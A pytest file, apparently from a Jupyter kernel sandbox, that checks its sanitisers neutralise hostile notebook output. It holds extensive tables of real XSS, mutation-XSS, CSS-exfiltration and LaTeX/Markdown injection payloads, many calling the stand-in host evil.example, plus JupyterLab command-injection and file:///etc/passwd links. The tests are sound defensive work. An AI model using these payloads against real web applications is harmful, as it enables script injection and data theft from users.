"""What leaves the sandbox can be looked at and can do nothing.

The attacks are tables of what somebody who means harm would try. Each is first shown to be one: the
check that must find nothing in the safe output finds something in the attack itself.
"""

from __future__ import annotations

import base64
import json
import re
import sys
import threading
import time
from collections.abc import Callable
from html.parser import HTMLParser
from typing import Any

import pandas as pd
import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from nbconvert.filters.markdown import markdown2html
from pygments import highlight
from pygments.formatters import HtmlFormatter
from pygments.lexers import PythonLexer

from familiar_kernel.sandbox.policy import (
    PLAIN,
    RELAYED,
    OutputPolicy,
    safe_bundle,
    safe_message,
    safe_reply,
)
from familiar_kernel.sandbox.sanitising import (
    LONGEST_PAGE,
    json_or_none,
    safe_html,
    safe_latex,
    safe_markdown,
    safe_style,
    safe_svg,
)

DEFAULT = OutputPolicy()
TRUSTED = OutputPolicy(trusted=True)
PNG = "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJg"
SVG_ADDRESS = "data:image/svg+xml;base64,"


def words(text: str) -> set[str]:
    return set(text.split())


ELEMENTS = words(
    "a abbr b blockquote br caption code col colgroup dd del details div dl dt em font h1 h2 "
    "h3 h4 h5 h6 hr i img ins kbd li mark meter ol p pre progress q s samp small span strike "
    "strong style sub summary sup table tbody td tfoot th thead tr tt u ul var wbr section"
)
ATTRIBUTES = words(
    "alt align bgcolor border cellpadding cellspacing class color colspan dir height href id "
    "lang max min open rel rowspan scope span src start style target title type valign value "
    "width"
)
LOADS = re.compile(r"url|image|expression|import|binding|attr|src|\\|@|position|content|/\*", re.I)


class Faults(HTMLParser):
    """Collects what a safe output may not contain."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.found: list[str] = []
        self.in_style = False

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.in_style = tag == "style"
        if tag not in ELEMENTS:
            self.found.append(f"<{tag}>")
        for name, value in attrs:
            self._attribute(tag, name, value or "")

    def _attribute(self, tag: str, name: str, value: str) -> None:
        if name not in ATTRIBUTES:
            self.found.append(f"<{tag} {name}>")
        elif name == "href" and not re.match(r"https?://|mailto:|#", value):
            self.found.append(f"link to {value}")
        elif name == "src" and not re.match(
            rf"data:image/(png|jpeg|gif|webp);base64,|{re.escape(SVG_ADDRESS)}", value
        ):
            self.found.append(f"loads {value}")
        elif name == "style" and LOADS.search(value):
            self.found.append(f"style {value}")
        elif name == "class" and re.search(r"(^|\s)(jp|lm|p|cm|fa)-|process", value):
            self.found.append(f"class {value}")
        elif name == "id" and not value.startswith("T_"):
            self.found.append(f"id {value}")

    def handle_endtag(self, tag: str) -> None:
        self.in_style = False

    def handle_data(self, data: str) -> None:
        if self.in_style and (
            LOADS.search(data) or re.search(r"[~*+]", data) or not data.strip().startswith("#T_")
        ):
            self.found.append(f"style element {data}")

    def handle_comment(self, data: str) -> None:
        self.found.append("a comment")

    def handle_decl(self, decl: str) -> None:
        self.found.append("a declaration")

    def handle_pi(self, data: str) -> None:
        self.found.append("a processing instruction")

    def unknown_decl(self, data: str) -> None:
        self.found.append("an unknown declaration")


def faults(html: str) -> list[str]:
    parser = Faults()
    parser.feed(html)
    parser.close()
    return parser.found


class Events(HTMLParser):
    """Lists what is in a page, attributes in any order."""

    def __init__(self) -> None:
        super().__init__()
        self.found: list[Any] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.found.append((tag, sorted(attrs, key=str)))

    def handle_endtag(self, tag: str) -> None:
        self.found.append(tag)

    def handle_data(self, data: str) -> None:
        self.found.append(data.split())


def events(html: str) -> list[Any]:
    parser = Events()
    parser.feed(html)
    parser.close()
    return parser.found


def shown(kind: str, value: Any, policy: OutputPolicy = DEFAULT, **more: Any) -> dict[str, Any]:
    return safe_bundle({kind: value, **more}, {}, policy)[0]


# --------------------------------------------------------------------------------------------------
# Attacks
# --------------------------------------------------------------------------------------------------

HTML_ATTACKS = r"""
<script>alert(1)</script>
<SCRIPT SRC=//evil.example/x.js></SCRIPT>
<scr<script>ipt>alert(1)</script>
<script type=module>import("//evil.example/x.js")</script>
<img src=x onerror=alert(1)>
<img src=x:x onerror = alert(1) >
<img/src=x/onerror=alert(1)>
<IMG """ + "\t" + r"""SRC="jav&#x09;ascript:alert(1);">
<img src="https://evil.example/?data">
<img src=//evil.example/x>
<img src=/api/terminals>
<img src="files/secret.png">
<img srcset="https://evil.example/x 1x" src="">
<img src="data:image/svg+xml;base64,PHN2Zy8+" onload=alert(1)>
<img src="data:text/html;base64,PHNjcmlwdD4=">
<img lowsrc=https://evil.example/x dynsrc=https://evil.example/y>
<image href=https://evil.example/x>
<picture><source srcset=https://evil.example/x><img src=x></picture>
<svg onload=alert(1)>
<svg><script>alert(1)</script></svg>
<svg><image href="https://evil.example/x"/></svg>
<svg><use href="data:image/svg+xml;base64,PHN2Zy8+#x"/></svg>
<svg><a xlink:href="javascript:alert(1)"><text x=20 y=20>click</text></a></svg>
<svg><animate attributeName=href values=javascript:alert(1) /><a id=x>click</a></svg>
<svg><foreignObject><iframe srcdoc="<script>alert(1)</script>"></iframe></foreignObject></svg>
<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">
<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src onerror=alert(1)&gt;">
<math href="javascript:alert(1)">click</math>
<math><annotation-xml encoding="text/html"><img src=x onerror=alert(1)></annotation-xml></math>
<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>
<noscript><p title="</noscript><img src=x onerror=alert(1)>">
<template><img src=x onerror=alert(1)></template>
<template shadowrootmode=open><img src=https://evil.example/x></template>
<title><a title="</title><img src=x onerror=alert(1)>">
<textarea><img title="</textarea><img src=x onerror=alert(1)>">
<xmp><p title="</xmp><img src=x onerror=alert(1)>">
<iframe><p title="</iframe><img src=x onerror=alert(1)>">
<noembed><img title="</noembed><img src=x onerror=alert(1)>">
<select><style></select><img src=x onerror=alert(1)></style>
<!--><img src=x onerror=alert(1)>-->
<!--x--!><img src=x onerror=alert(1)>
<![CDATA[><img src=x onerror=alert(1)>]]>
<?xml version="1.0"?><img src=x onerror=alert(1)>
<a href="javascript:alert(1)">click</a>
<a href="JaVaScRiPt:alert(1)">click</a>
<a href="java&#10;script:alert(1)">click</a>
<a href="&#1;javascript:alert(1)">click</a>
<a href="javascript&colon;alert(1)">click</a>
<a href="vbscript:msgbox(1)">click</a>
<a href="data:text/html,<script>alert(1)</script>">click</a>
<a href="blob:https://evil.example/x">click</a>
<a href="file:///etc/passwd">click</a>
<a href="/lab/tree/x">click</a>
<a href="//evil.example/x">click</a>
<a href="http:\\evil.example">click</a>
<a href="https:alert">click</a>
<a href="https://evil.example" ping="https://evil.example/ping">click</a>
<a href="https://evil.example" download=x onclick=alert(1)>click</a>
<a name=body href="https://evil.example" target=_top>click</a>
<map name=m><area href=javascript:alert(1) shape=default></map><img usemap=#m src=x>
<body onload=alert(1)>
<body background=https://evil.example/x>
<table background=https://evil.example/x><tr><td background="//evil.example/x">x</table>
<div onmouseover=alert(1) style=width:100% onfocus=alert(1) tabindex=1 autofocus>x</div>
<div contenteditable onbeforeinput=alert(1)>x</div>
<details open ontoggle=alert(1)>x</details>
<marquee onstart=alert(1)>x</marquee>
<style>@import "https://evil.example/x.css";</style>
<style>body{background:url(https://evil.example/x)}</style>
<style>.jp-Notebook{display:none}</style>
<style>#T_x ~ *{color:red}</style><b id=T_x>x</b>
<style>#T_x{background:url(https://evil.example/x)}</style><b id=T_x>x</b>
<style>@font-face{font-family:x;src:url(//evil.example/x)}</style><b style="font-family:x">x</b>
<link rel=stylesheet href=https://evil.example/x.css>
<link rel=prefetch href=https://evil.example/x>
<link rel=dns-prefetch href=//evil.example>
<div style="background:url(https://evil.example/x)">x</div>
<div style="background-image:url('https://evil.example/x')">x</div>
<div style="background:u\72l(https://evil.example/x)">x</div>
<div style="background:image-set('https://evil.example/x' 1x)">x</div>
<div style="background:-webkit-image-set(url(https://evil.example/x) 1x)">x</div>
<div style="list-style:url(https://evil.example/x)">x</div>
<div style="cursor:url(https://evil.example/x),auto">x</div>
<div style="width:expression(alert(1))">x</div>
<div style="-moz-binding:url(https://evil.example/x.xml#x)">x</div>
<div style="behavior:url(x.htc)">x</div>
<div style="color:red;/**/background:u/**/rl(//evil.example/x)">x</div>
<div style="position:fixed;top:0;left:0;width:100%;height:100%;z-index:9999">sign in</div>
<div style="color:red;position:absolute">x</div>
<div style="content:url(https://evil.example/x)">x</div>
<div style="filter:url(https://evil.example/x#f)">x</div>
<div style="mask:url(https://evil.example/x)">x</div>
<meta http-equiv=refresh content="0;url=https://evil.example/?data">
<meta http-equiv=Content-Security-Policy content="default-src *">
<base href=https://evil.example/>
<form action=https://evil.example><input name=q value=data><button>Run</button></form>
<button formaction=javascript:alert(1)>Run</button>
<input type=image src=https://evil.example/x>
<input autofocus onfocus=alert(1)>
<isindex action=javascript:alert(1) type=image>
<iframe src=https://evil.example></iframe>
<iframe srcdoc="<script>parent.alert(1)</script>"></iframe>
<iframe src=javascript:alert(1)></iframe>
<frameset><frame src=javascript:alert(1)></frameset>
<object data=https://evil.example/x></object>
<object data="data:text/html,<script>alert(1)</script>"></object>
<embed src=https://evil.example/x.swf>
<applet code=x archive=https://evil.example/x.jar></applet>
<portal src=https://evil.example></portal>
<video src=https://evil.example/x autoplay></video>
<video poster=https://evil.example/x></video>
<video><source onerror=alert(1)></video>
<audio src=https://evil.example/x onerror=alert(1)></audio>
<track src=https://evil.example/x>
<canvas id=c></canvas>
<dialog open><b>sign in</b></dialog>
<button data-commandlinker-command="terminal:create-new" data-commandlinker-args="{}">Run</button>
<a data-commandlinker-command="console:inject" data-commandlinker-args='{"code":"x"}'>click</a>
<span data-commandlinker-command="filebrowser:delete">click</span>
<a data-path=/etc/passwd data-locator=line=1>click</a>
<div data-jupyter-id=x data-trust-command=x data-mime-type=text/html>x</div>
<div class="jp-Dialog lm-Widget">sign in</div>
<div class="jp-mod-trusted jp-Notebook">x</div>
<div class="mathjax_process">x</div>
<b id=jupyter-config-data>{"terminalsAvailable": true}</b>
<img name=getElementById src=x>
<form id=cookie name=cookie></form>
<b is=x-element slot=x part=x role=button aria-label=Run accesskey=x>x</b>
<b popover id=x>x</b><button popovertarget=x>Run</button>
<p itemprop=x xml:base=https://evil.example xlink:href=javascript:alert(1)>x</p>
<q cite=javascript:alert(1)>x</q>
<x-element onclick=alert(1)>x</x-element>
<b """ + "\x00" + r"""onclick=alert(1)>x</b>
<b/onclick=alert(1)>x</b>
<b a="x"onclick=alert(1)>x</b>
<b a=`x` onclick=alert(1)>x</b>
<plaintext><script>alert(1)
"""  # fmt: skip
HTML_ATTACKS_ONE_BY_ONE = [line for line in HTML_ATTACKS.strip().split("\n") if line]


@pytest.mark.parametrize("attack", HTML_ATTACKS_ONE_BY_ONE)
def test_an_attack_in_html_is_none_any_more(attack: str) -> None:
    assert faults(attack), "this was meant to be an attack"
    safe = safe_html(attack + "<p>text</p>")
    assert faults(safe or "") == []
    # Where an element without end swallows the rest, nothing of it is left at all.
    assert safe is None or "text" in safe or "Run" in safe or "sign in" in safe


@pytest.mark.parametrize("attack", HTML_ATTACKS_ONE_BY_ONE)
@pytest.mark.parametrize(
    "around", ["<table><tr><td>{}", "<p><b>{}</b>", "<ul><li>{}<li>{}", "{}{}"]
)
def test_wherever_it_stands(attack: str, around: str) -> None:
    assert faults(safe_html(around.replace("{}", attack)) or "") == []


@pytest.mark.parametrize("attack", HTML_ATTACKS_ONE_BY_ONE)
def test_what_is_safe_stays_as_it_is(attack: str) -> None:
    """A sanitiser whose output a parser reads in another way would change it once more."""
    once = safe_html(attack) or ""
    assert events(safe_html(once) or "") == events(once)


def test_a_link_opens_elsewhere_and_tells_nothing() -> None:
    safe = safe_html('<a href="https://example.org/x?y=1" target=_self rel=opener>x</a>')
    assert safe == (
        '<a href="https://example.org/x?y=1" target="_blank" rel="noopener noreferrer">x</a>'
    )


STYLE_ATTACKS = [
    "background: url(x)", "background: URL(x)", "background: src('x')", "color: attr(title)",
    r"background: \75rl(x)", "background: image('x')", "background: cross-fade(url(x), red)",
    "background: element(#x)", "background: paint(x)", "background: red url(x)", "width: env(x)",
    "background-image: linear-gradient(red, red)", "position: fixed", "position: sticky",
    "transform: scale(99)", "z-index: 1", "top: 0", "float: left", "margin-top: -1000px",
    "margin: 0 0 -9px", "margin: calc(0px - 9px)", "box-shadow: 0 0 0 9999px red",
    "outline: 9999px solid red", "cursor: wait", "animation: x 1s", "transition: all 1s",
    "clip-path: none", "--x: url(x)", "color: red}", "color: red{", "color: rgb(", "color: '",
    "color: </style><script>", "color: @import", "color: x:y", "font-family: \u212aurl(",
    "unicode-bidi: bidi-override", "pointer-events: none", "all: unset", "zoom: 99", "",
]  # fmt: skip


@pytest.mark.parametrize("declaration", STYLE_ATTACKS)
def test_a_style_loads_nothing_and_moves_nothing(declaration: str) -> None:
    assert safe_style(declaration) == ""
    assert safe_style(f"color: red; {declaration}; opacity: 0.5") == "color: red; opacity: 0.5"


FORMULA_ATTACKS = [
    r"$\href{javascript:alert(1)}{x}$", r"$\url{https://evil.example}$", r"$\class{jp-Dialog}{x}$",
    r"$\style{background:url(https://evil.example)}{x}$", r"$\cssId{x}{y}$", r"$\data{x}{y}$",
    r"$\require{html}$", r"$\unicode[font]{65}$", r"$\htmlClass{x}{y}$", r"$\htmlData{a=b}{y}$",
    r"$\includegraphics{https://evil.example/x.png}$", r"$\bbox[background:url(x)]{x}$",
    r'$\mmlToken{mi}[href="javascript:alert(1)"]{x}$', r"$\def\alpha{\beta}$", r"$\let\sum=\int$",
    r"$\newcommand{\pi}{3}$", r"$\renewcommand{\pi}{3}$", r"$\DeclareMathOperator{\sin}{cos}$",
    r"$\csname href\endcsname{x}{y}$", r"$\HREF{x}{y}$", r"\begin{align}\href{x}{y}\end{align}",
    r"\(\href{x}{y}\)", r"\[\href{x}{y}\]",
]  # fmt: skip


@pytest.mark.parametrize("formula", FORMULA_ATTACKS)
def test_a_formula_only_typesets(formula: str) -> None:
    assert safe_latex(formula) is None
    assert safe_bundle({"text/latex": formula, "text/plain": "x"}, {}, DEFAULT)[0] == {
        "text/plain": "x"
    }
    # JupyterLab typesets HTML and Markdown as well.
    in_html = safe_html(f"<p>{formula}</p>")
    assert in_html is not None
    assert in_html.startswith('<div class="mathjax_ignore tex2jax_ignore"><p>')
    in_markdown = safe_markdown(f"See {formula} there") or ""
    command = re.compile(r"\\(?:href|url|class|style|cssId|data|require|html|bbox|mml|let|def)")
    assert in_markdown.startswith("<div class=") or not command.search(in_markdown)


@pytest.mark.parametrize(
    "html",
    [
        r"<p>$\hr<wbr>ef{javascript:alert(1)}{x}$</p>",
        r"<p>$\hr<!-- -->ef{javascript:alert(1)}{x}$</p>",
        r"<p>$\href<br>x{y}$</p>",
        r"<p>$&bsol;&#104;ref{javascript:alert(1)}{x}$</p>",
        r"<p>$\<b></b>href{javascript:alert(1)}{x}$</p>",
        r"<p>&dollar;\href{javascript:alert(1)}{x}&dollar;</p>",
    ],
)
def test_a_formula_in_pieces_is_one_too(html: str) -> None:
    assert (safe_html(html) or "").startswith('<div class="mathjax_ignore tex2jax_ignore">')


def test_a_formula_that_markdown_puts_together_is_not_typeset() -> None:
    safe = safe_markdown(r"&#36;\hr&#101;f{javascript:alert(1)}{x}&#36;") or ""
    assert safe.startswith('<div class="mathjax_ignore tex2jax_ignore">\n\n')


MARKDOWN_ATTACKS = r"""
<script>alert(1)</script>
text <img src=x onerror=alert(1)> text
<div onclick=alert(1)>\n\ntext\n\n</div>
<a href="javascript:alert(1)">click</a>
[click](javascript:alert(1))
[click](JaVaScRiPt:alert(1))
[click](java&#115;cript:alert(1))
[click](javascript&colon;alert(1))
[click](<javascript:alert(1)>)
[click](data:text/html;base64,PHNjcmlwdD4=)
[click](vbscript:x "title")
[click][r]\n\n[r]: javascript:alert(1)
[r]\n\n[r]: <javascript:alert(1)> "title"
<javascript:alert(1)>
![x](https://evil.example/?data)
![x](//evil.example/?data)
![x][r]\n\n[r]: https://evil.example/?data
![r]\n\n[r]: https://evil.example/?data
[![x](https://evil.example/?data)](https://example.org)
note[^1]\n\n[^1]: ![x](https://evil.example/x)
| a |\n|---|\n| <img src=x onerror=alert(1)> |
| ![x](https://evil.example/x) |\n|---|\n| b |
- <iframe src=javascript:alert(1)></iframe>
> <svg onload=alert(1)>
# <b onmouseover=alert(1)>x
<span data-commandlinker-command="terminal:create-new">click</span>
<!-- <img --> <img src=x onerror=alert(1)>
`code` <img src=x onerror=alert(1)> `code`
``` `\n<img src=x onerror=alert(1)>
<style>@import "https://evil.example"</style>
<details><summary onclick=alert(1)>x</summary></details>
""".strip().split("\n")


def markdown_faults(markdown: str) -> list[str]:
    """Return the faults in rendered Markdown, without what the renderer itself writes."""
    html = re.sub(r' (?:id|class)="[^"]*"', "", str(markdown2html(markdown)))
    # Without a scheme a link leads to the web or beside the notebook, and only by a click.
    return [fault for fault in faults(html) if not re.match(r"link to [^:]*$", fault)]


@pytest.mark.parametrize("attack", [line.replace(r"\n", "\n") for line in MARKDOWN_ATTACKS])
def test_an_attack_in_markdown_is_none_any_more(attack: str) -> None:
    assert markdown_faults(attack), "this was meant to be an attack"
    assert markdown_faults(safe_markdown(attack) or "") == []


@pytest.mark.parametrize(
    "attack",
    [
        '![x](https://evil.example/x" onerror="alert(1))',
        "$<img src=x onerror=alert(1)>$",
        "note[^1]\n\n[^1]: <img src=x onerror=alert(1)>",
        "$$\n<img src=x onerror=alert(1)>\n$$",
        "\\begin{a}<img src=x onerror=alert(1)>\\end{a}",
        "![x](data:text/html;base64,PHNjcmlwdD4=)",
    ],
)
def test_nor_is_what_some_renderers_might_take_for_one(attack: str) -> None:
    assert markdown_faults(safe_markdown(attack) or "") == []


def test_a_diagram_with_links_is_shown_as_its_source() -> None:
    attack = '```mermaid\ngraph LR; A-->B\nclick A "https://evil.example/?data"\n```\n'
    assert (safe_markdown(attack) or "").startswith("```text\n")


OTHER_TYPES = [
    "application/javascript", "text/javascript", "application/ecmascript", "module",
    "application/pdf", "application/vnd.jupyter.widget-view+json", "application/x-shockwave-flash",
    "application/vnd.plotly.v1+json", "application/vnd.vegalite.v5+json", "application/geo+json",
    "application/vnd.mermaid", "text/vnd.mermaid", "application/vnd.jupyter.error",
    "application/vnd.jupyter.stderr", "application/xhtml+xml", "text/xml", "video/mp4",
    "audio/wav", "image/svg", "image/bmp", "image/x-icon", "Text/HTML", "TEXT/HTML", "text/HTML",
    "text/html ", " text/html", "text/html;charset=utf-8", "text/html; x", "text/html\n",
    "text/html\x00", "text\u200b/html", "text/markdown;variant=GFM", "Text/Markdown",
    "text/x-latex",
    "application/JSON", "__proto__", "constructor", "", "*/*", "text/*",
]  # fmt: skip


@pytest.mark.parametrize("kind", OTHER_TYPES)
def test_a_type_that_is_not_known_by_its_exact_name_stays_inside(kind: str) -> None:
    assert shown(kind, "<script>alert(1)</script>", **{"text/plain": "x"}) == {"text/plain": "x"}
    alone = shown(kind, "<script>alert(1)</script>")
    assert list(alone) == ["text/plain"]
    assert "left out" in alone["text/plain"]
    assert "script>" not in alone["text/plain"]


SVGS = [
    "<svg xmlns='http://www.w3.org/2000/svg'><script>alert(1)</script></svg>",
    "<svg onload='alert(1)'><image href='https://evil.example/x'/></svg>",
    '<?xml version="1.0"?><!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" "x.dtd"><svg><g/></svg>',
]


@pytest.mark.parametrize("svg", SVGS)
def test_an_svg_is_shown_as_a_picture_only(svg: str) -> None:
    bundle = shown("image/svg+xml", svg, **{"text/plain": "<Digraph>"})
    assert list(bundle) == ["text/plain", "text/html"]
    tag = re.fullmatch(
        r'<img src="data:image/svg\+xml;base64,([A-Za-z0-9+/=]+)" alt="a drawing">',
        bundle["text/html"],
    )
    assert tag
    picture = base64.b64decode(tag[1]).decode()
    assert re.search(r"<svg[^>]* xmlns=.http://www.w3.org/2000/svg", picture), "draws nothing else"


def test_an_svg_gives_way_to_what_is_as_good() -> None:
    for kind, value in {"image/png": PNG, "text/html": "<b>x</b>", "text/markdown": "x"}.items():
        bundle = shown("image/svg+xml", SVGS[0], **{kind: value})
        assert list(bundle) == [kind, "text/plain"]
    bundle = shown("image/svg+xml", SVGS[0], **{"text/html": "<script></script>"})
    assert SVG_ADDRESS in bundle["text/html"]


@pytest.mark.parametrize("svg", ["", "no picture", "<!DOCTYPE x [<!ENTITY a 'b'>]><svg/>", 7, None])
def test_what_is_no_svg_is_left_out(svg: Any) -> None:
    assert "left out (image/svg+xml)" in shown("image/svg+xml", svg)["text/plain"]


@pytest.mark.parametrize(
    "value", ['"><script>', "A\u00e9", "data:x", "a b<", ["AAAA"], 7, None, "AA\x00A", "A-_A"]
)
def test_a_picture_is_base64_or_none(value: Any) -> None:
    assert list(shown("image/png", value)) == ["text/plain"]


METADATA_ATTACKS = {
    "isolated": True, "fragment": "#x", "width": "1; position: fixed", "height": -1,
    "unconfined": "yes", "needs_background": "jp-Dialog", "trusted": True, "expanded": [1],
    "tags": ["hide-input"], "__proto__": {"a": 1},
}  # fmt: skip


def test_metadata_says_what_is_known_to_be_harmless() -> None:
    data = {"text/html": "<b>x</b>", "image/png": PNG, "application/json": {}}
    metadata = {**METADATA_ATTACKS, **dict.fromkeys(data, METADATA_ATTACKS)}
    assert safe_bundle(data, metadata, DEFAULT)[1] == {}
    good = {
        "needs_background": "light",
        "image/png": {"width": 10, "height": 2.5, "unconfined": True},
        "application/json": {"expanded": True},
    }
    assert safe_bundle(data, good, DEFAULT)[1] == good
    assert safe_bundle({"text/plain": "x"}, good, DEFAULT)[1] == {"needs_background": "light"}
    assert safe_bundle(data, {"width": float("nan"), "height": True}, DEFAULT)[1] == {}


# --------------------------------------------------------------------------------------------------
# What stays
# --------------------------------------------------------------------------------------------------


class Cells(HTMLParser):
    """Reads a table."""

    def __init__(self) -> None:
        super().__init__()
        self.cells: list[str] = []
        self.styles: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        if tag in ("td", "th"):
            self.cells.append("")
        self.styles += [value or "" for name, value in attrs if name == "style"]

    def handle_data(self, data: str) -> None:
        if self.cells:
            self.cells[-1] += data.strip()


def cells(html: str) -> Cells:
    parser = Cells()
    parser.feed(html)
    return parser


FRAME = pd.DataFrame({"name": ["Ada", "<b>Bob</b>", "Çelik & $5"], "size": [1.5, -2.0, None]})


def test_a_table_of_pandas_is_what_it_was() -> None:
    html = FRAME._repr_html_()
    safe = safe_html(html) or ""
    assert faults(safe) == []
    assert cells(safe).cells == cells(html).cells
    assert "&lt;b&gt;Bob&lt;/b&gt;" in safe
    assert 'class="dataframe"' in safe
    assert 'style="text-align: right"' in safe
    assert "&lt;style" not in safe
    assert "vertical-align: top" not in safe, "the text of a style element is not shown"
    many = FRAME.set_index("name").T.to_html(bold_rows=True, border=2)
    assert cells(safe_html(many) or "").cells == cells(many).cells


def test_a_styler_keeps_its_colours() -> None:
    styler = (
        FRAME.style.highlight_max(subset=["size"], color="yellow")
        .bar(subset=["size"], color="#d65f5f")
        .set_caption("sizes")
        .set_table_styles([{"selector": "th:hover", "props": "color: rgb(1, 2, 3)"}])
    )
    html = styler.to_html()
    safe = safe_html(html) or ""
    assert faults(safe) == []
    assert cells(safe).cells == cells(html).cells
    name = re.search(r'id="(T_\w+?)_row0_col1"', html)
    assert name
    assert f'id="{name[1]}_row0_col1"' in safe
    assert re.search(rf"#{name[1]}_row0_col1 {{[^}}]*background-color: yellow", safe)
    assert "linear-gradient(90deg, " in safe
    assert f"#{name[1]} th:hover {{ color: rgb(1, 2, 3) }}" in safe


def test_code_pictures_links_and_colours_stay() -> None:
    code = highlight("def f(x): return x", PythonLexer(), HtmlFormatter(noclasses=True))
    safe = safe_html(code) or ""
    assert faults(safe) == []
    assert re.sub(r"<[^>]*>", "", safe) == re.sub(r"<[^>]*>", "", code)
    assert "color: #008000" in safe
    assert "font-weight: bold" in safe
    for kept in (
        f'<img src="data:image/png;base64,{PNG}" alt="x" width="3">',
        '<span style="color: var(--jp-error-color1)">x</span>',
        "<details><summary>more</summary><p>text</p></details>",
        '<ol start="3"><li>x</li></ol>',
        '<td colspan="2">x</td>',
        "<p>$x^2$ and a \\(y\\)</p>",
        '<span class="ansi-red-fg">x</span>',
        '<table dir="rtl" lang="ar"><tbody><tr><td>x</td></tr></tbody></table>',
    ):
        whole = f"<table><tbody><tr>{kept}</tr></tbody></table>" if kept[:3] == "<td" else kept
        assert safe_html(whole) == whole


def test_markdown_and_latex_stay() -> None:
    markdown = "# Title\n\n| a | b |\n|---|---|\n| 1 | $x^2$ |\n\n[x](https://example.org) `<b>`\n"
    assert safe_markdown(markdown) == markdown
    fence = '```html\n<script>alert("x")</script>\n```\n'
    assert safe_markdown(fence) == fence
    latex = r"$\displaystyle \left[\begin{matrix}x & \alpha\\0 & \text{def}\end{matrix}\right]$"
    assert safe_latex(latex) == latex


def test_json_and_pictures_stay() -> None:
    tree = {"a": [1, 2.5, None, True, {"b": "<script>"}]}
    assert shown("application/json", tree)["application/json"] == tree
    for kind in ("png", "jpeg", "gif", "webp"):
        wrapped = PNG[:76] + "\n" + PNG[76:] + "\n"
        assert shown(f"image/{kind}", wrapped)[f"image/{kind}"] == wrapped


def test_what_shows_nothing_gives_way_to_the_text() -> None:
    html = "<div id=x></div><script>draw()</script><!-- x --> &nbsp; <style>b{}</style>"
    bundle = {"text/html": html, "application/vnd.plotly.v1+json": {}, "text/plain": "Figure()"}
    assert safe_bundle(bundle, {}, DEFAULT) == ({"text/plain": "Figure()"}, {})
    del bundle["text/plain"]
    assert safe_bundle(bundle, {}, DEFAULT)[0] == {
        "text/plain": "[An output was left out (text/html, application/vnd.plotly.v1+json):"
        " the sandbox shows only what can do nothing in the browser.]"
    }
    assert safe_bundle({}, {}, DEFAULT) == ({"text/plain": ""}, {})
    assert shown("image/png", PNG) == {"image/png": PNG, "text/plain": ""}


def test_the_user_may_let_more_pass() -> None:
    plotly = "application/vnd.plotly.v1+json"
    view = "application/vnd.jupyter.widget-view+json"
    bundle = {plotly: {"data": []}, view: {"model_id": "x"}, "text/html": "<script>x</script>"}
    metadata = {plotly: {"config": {"a": 1}, "isolated": True}}
    also = OutputPolicy(also=(plotly,))
    assert safe_bundle(bundle, metadata, also) == (
        {plotly: {"data": []}, "text/plain": ""},
        {plotly: {"config": {"a": 1}}},
    )
    assert safe_bundle(bundle, {}, OutputPolicy(widgets=True))[0] == {
        view: {"model_id": "x"},
        "text/plain": "",
    }
    assert safe_bundle(bundle, metadata, TRUSTED) == (bundle, metadata)


# --------------------------------------------------------------------------------------------------
# Messages and replies
# --------------------------------------------------------------------------------------------------


def ours(display_id: str) -> bool:
    return display_id == "answer"


def relayed(msg_type: str, content: Any, policy: OutputPolicy = DEFAULT) -> dict[str, Any] | None:
    return safe_message(msg_type, content, policy, ours)


HOSTILE = {"text/html": "<img src=x onerror=alert(1)>", "text/plain": "x"}


@pytest.mark.parametrize("msg_type", ["display_data", "update_display_data", "execute_result"])
def test_displays_are_made_safe_and_answers_left_alone(msg_type: str) -> None:
    content = {
        "data": HOSTILE,
        "metadata": {"isolated": True},
        "transient": {"display_id": "theirs", "more": "<b>"},
        "execution_count": 3,
        "output_type": "display_data",
    }
    safe = relayed(msg_type, content)
    assert safe is not None
    assert safe.pop("execution_count", 3) == 3
    assert safe == {
        "data": {"text/plain": "x"},
        "metadata": {},
        "transient": {"display_id": "theirs"},
    }
    content["transient"] = {"display_id": "answer"}
    assert relayed(msg_type, content) is None
    assert relayed(msg_type, content, TRUSTED) is None


@pytest.mark.parametrize("display_id", [["answer"], {"answer": 1}, 7, None, True])
def test_a_display_id_is_text(display_id: Any) -> None:
    content = {"data": HOSTILE, "metadata": {}, "transient": {"display_id": display_id}}
    assert relayed("update_display_data", content) is None
    assert (relayed("display_data", content) or {})["transient"] == {}


@pytest.mark.parametrize(
    "state", ["dead", "restarting", "autorestarting", "starting", "", None, []]
)
def test_a_guest_cannot_say_that_the_kernel_died(state: Any) -> None:
    for policy in (DEFAULT, TRUSTED):
        assert relayed("status", {"execution_state": state}, policy) is None
    assert relayed("status", {"execution_state": "idle", "x": 1}) == {"execution_state": "idle"}


@pytest.mark.parametrize("msg_type", ["comm_open", "comm_msg", "comm_close"])
def test_widgets_stay_inside_unless_they_may_pass(msg_type: str) -> None:
    content = {"comm_id": "x", "target_name": "jupyter.widget", "data": {"state": {}}}
    assert relayed(msg_type, content) is None
    assert relayed(msg_type, content, OutputPolicy(widgets=True)) == content
    assert relayed(msg_type, content, TRUSTED) == content


@pytest.mark.parametrize(
    "msg_type", ["shutdown_reply", "iopub_welcome", "execute_reply", "input_request", "x", ""]
)
def test_other_messages_stay_inside(msg_type: str) -> None:
    assert msg_type not in RELAYED
    assert relayed(msg_type, {}) is None
    assert relayed(msg_type, {}, TRUSTED) is None


SHAPES: list[tuple[str, Any, Any]] = [
    ("stream", {"name": "stderr", "text": "\x1b[31mx", "x": 1},
     {"name": "stderr", "text": "\x1b[31mx"}),
    ("stream", {"name": ["x"], "text": "x"}, {"name": "stdout", "text": "x"}),
    ("stream", {"name": "stdout", "text": ["x"]}, None),
    ("clear_output", {"wait": True, "x": 1}, {"wait": True}),
    ("clear_output", {}, {"wait": False}),
    ("execute_input", {"code": "1", "execution_count": 2}, {"code": "1", "execution_count": 2}),
    ("execute_input", {"code": ["1"], "execution_count": 2}, None),
    ("execute_input", {"code": "1", "execution_count": "<b>"},
     {"code": "1", "execution_count": None}),
